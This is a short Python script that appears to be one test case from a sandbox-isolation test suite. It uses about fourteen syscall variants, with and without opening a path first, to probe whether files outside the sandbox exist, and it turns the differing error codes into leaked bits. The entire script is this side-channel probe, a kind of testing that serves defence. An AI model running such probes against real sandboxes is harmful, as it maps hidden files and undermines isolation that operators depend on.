# SPDX-License-Identifier: Apache-2.0
# attack: what a name outside is, told by looks that answer each kind of thing in another way, before and after an open
# class: exist
# wins: leak
from kit import *

tried()
st = stat_buf()
b = ctypes.create_string_buffer(256)
looks = (lambda p: sc('stat', p + b'/', st), lambda p: sc('stat', p + b'/x', st), lambda p: sc('lstat', p + b'/.', st),
         lambda p: sc('stat', p + b'/..', st), lambda p: sc('readlink', p + b'/', b, 255),
         lambda p: sc('access', p + b'/', 1), lambda p: sc('access', p, 2), lambda p: sc('faccessat2', AT_FDCWD, p, 1, 0x100),
         lambda p: sc('statx', AT_FDCWD, p + b'/x', 0x100, 0x7ff, st), lambda p: sc('statx', AT_FDCWD, p, 0x900, 0, st),
         lambda p: sc('newfstatat', AT_FDCWD, p + b'//', st, 0), lambda p: sc('getxattr', p, b'user.none', b, 0),
         lambda p: sc('listxattr', p, b, 0), lambda p: sc('statfs', p + b'/', b))
for probe in looks:
    for opens in False, True:
        def bit(i):
            path = os.fsencode(OUT) + b'/exist/e%02d' % i
            if opens:
                fd = openat(path)
                if fd > 2:
                    os.close(fd)
            return min(probe(path), 0)
        answers = [bit(i) for i in range(F['bits'])]
        for there in set(answers):
            say('BITS=' + ''.join('1' if a == there else '0' for a in answers))
